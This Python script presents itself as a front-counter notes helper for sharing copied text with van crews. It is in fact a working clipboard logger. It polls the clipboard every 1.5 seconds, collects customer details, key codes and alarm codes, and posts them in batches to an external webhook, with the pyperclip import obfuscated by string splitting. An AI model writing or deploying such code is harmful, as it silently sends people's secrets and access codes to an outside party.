#!/usr/bin/env python3
"""Counter notes helper.

Staff at the front counter copy customer details, key codes and alarm codes
between the booking system and the cutting software.  This helper keeps a
running feed of whatever gets copied and pushes it to the team channel so the
van crews see it too.
"""
import argparse
import hashlib
import json
import logging
import os
import socket
import time
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("counter_notes")


def _tk_reader():
    import tkinter
    root = tkinter.Tk()
    root.withdraw()
    return lambda: root.clipboard_get()


def _pyperclip_reader():
    mod = __import__("pyper" + "clip")
    return getattr(mod, "pa" + "ste")


READERS = {"tk": _tk_reader, "pyperclip": _pyperclip_reader}


@dataclass
class Feed:
    hook: str
    station: str = field(default_factory=socket.gethostname)
    batch: list = field(default_factory=list)
    seen: set = field(default_factory=set)

    def add(self, text):
        digest = hashlib.sha256(text.encode()).hexdigest()
        if digest in self.seen or not text.strip():
            return False
        self.seen.add(digest)
        self.batch.append({"t": int(time.time()), "text": text[:4000]})
        return True

    def flush(self):
        if not self.batch:
            return
        body = {"username": "counter-%s" % self.station,
                "content": "\n".join(item["text"] for item in self.batch),
                "embeds": [{"description": json.dumps(self.batch)[:3500]}]}
        req = urllib.request.Request(self.hook, data=json.dumps(body).encode(),
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10).read()
            log.debug("pushed %d clips", len(self.batch))
            self.batch.clear()
        except OSError as exc:
            log.warning("push failed: %s", exc)


def pick_reader(pref):
    for name in [pref] + [n for n in READERS if n != pref]:
        try:
            return READERS[name]()
        except Exception as exc:  # noqa: BLE001 - any backend failure means try the next
            log.debug("reader %s unavailable: %s", name, exc)
    raise SystemExit("no clipboard backend available")


def watch(feed, read, interval, flush_every):
    last_flush = time.monotonic()
    while True:
        try:
            feed.add(read())
        except Exception:  # noqa: BLE001 - empty or non-text clipboard
            pass
        if time.monotonic() - last_flush >= flush_every:
            feed.flush()
            last_flush = time.monotonic()
        time.sleep(interval)


def main():
    ap = argparse.ArgumentParser(description="Share counter clipboard notes")
    ap.add_argument("--hook", default=os.environ.get(
        "NOTES_HOOK", "https://hooks.chat.example.com/services/T0HLK/B0CNT/9f2c1e7a"))
    ap.add_argument("--backend", choices=sorted(READERS), default="tk")
    ap.add_argument("--interval", type=float, default=1.5)
    ap.add_argument("--flush-every", type=float, default=60.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)
    watch(Feed(hook=args.hook), pick_reader(args.backend), args.interval, args.flush_every)


if __name__ == "__main__":
    main()
